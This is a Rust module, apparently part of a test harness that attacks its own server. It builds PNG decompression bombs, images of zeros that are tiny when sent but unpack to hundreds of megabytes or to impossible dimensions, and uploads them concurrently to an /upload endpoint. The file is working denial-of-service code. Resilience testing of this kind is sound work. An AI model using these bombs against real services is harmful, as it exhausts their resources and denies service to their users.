//! Pictures that are small as they are sent and large as they are unpacked.

use std::sync::Arc;

use flate2::{Compress, Compression, FlushCompress};
use tokio::io::AsyncWriteExt as _;

use super::super::own_credentials;
use super::super::target::{Door, Target};

const ATTACKERS: usize = 4;
/// Zeros that are packed at once.
const PIECE_BYTES: usize = 1024 * 1024;

/// Pictures just within what is unpacked, beyond it, and of dimensions that nothing could hold.
pub(super) async fn pictures(target: Arc<Target>) {
    let bombs = Arc::new([
        // 184 MB as they are unpacked: 16 bits for each of four colours.
        png(4800, 4800, 16, 6, 4800 * 4800 * 8),
        png(20_000, 2000, 8, 2, 20_000 * 2000 * 3),
        png(60_000, 60_000, 1, 0, 60_000 * 60_000 / 8),
        png(u32::MAX >> 1, u32::MAX >> 1, 16, 6, 100_000),
    ]);
    let deed = move |target: Arc<Target>, attacker: usize| {
        let bombs = Arc::clone(&bombs);
        async move {
            let bomb = &bombs[attacker % bombs.len()];
            let stream = target.tls(Door::Web, attacker, "http/1.1").await?;
            let credentials = own_credentials();
            let head = format!(
                "POST /upload HTTP/1.1\r\nHost: localhost\r\n{credentials}Content-Length: {}\r\n\
                Content-Type: image/png\r\nConnection: close\r\n\r\n",
                bomb.len()
            );
            let (reader, mut writer) = tokio::io::split(stream);
            let writing = async {
                writer.write_all(head.as_bytes()).await?;
                writer.write_all(bomb).await?;
                writer.flush().await
            };
            let (_, written) = tokio::join!(target.last_words(reader), writing);
            written
        }
    };
    target.swarm(ATTACKERS, deed).await;
}

/// A picture of nothing but zeros. Source: PNG (third edition), sections 5 and 10.
fn png(width: u32, height: u32, depth: u8, colour: u8, unpacked: usize) -> Vec<u8> {
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    let size = [width.to_be_bytes(), height.to_be_bytes()].concat();
    chunk(&mut png, *b"IHDR", &[&size[..], &[depth, colour, 0, 0, 0]].concat());
    // A row begins with a byte for its filter.
    chunk(&mut png, *b"IDAT", &zeros(unpacked + height.min(100_000) as usize));
    chunk(&mut png, *b"IEND", &[]);
    png
}

/// At least so many zeros, packed: the same piece again and again, each of which stands for itself.
/// Source: RFC 1950, section 2.2.
fn zeros(len: usize) -> Vec<u8> {
    let (mut packed, mut compress) =
        (Vec::with_capacity(PIECE_BYTES), Compress::new(Compression::fast(), false));
    compress.compress_vec(&vec![0; PIECE_BYTES], &mut packed, FlushCompress::Full).unwrap();
    let pieces = len.div_ceil(PIECE_BYTES);
    let mut out = vec![0x78, 1];
    out.extend(packed.repeat(pieces));
    out.extend([3, 0]);
    let sum = u32::try_from(pieces * PIECE_BYTES % 65_521).unwrap() << 16 | 1;
    out.extend(sum.to_be_bytes());
    out
}

fn chunk(out: &mut Vec<u8>, name: [u8; 4], data: &[u8]) {
    out.extend_from_slice(&u32::try_from(data.len()).unwrap().to_be_bytes());
    out.extend_from_slice(&name);
    out.extend_from_slice(data);
    let mut crc = flate2::Crc::new();
    crc.update(&name);
    crc.update(data);
    out.extend_from_slice(&crc.sum().to_be_bytes());
}
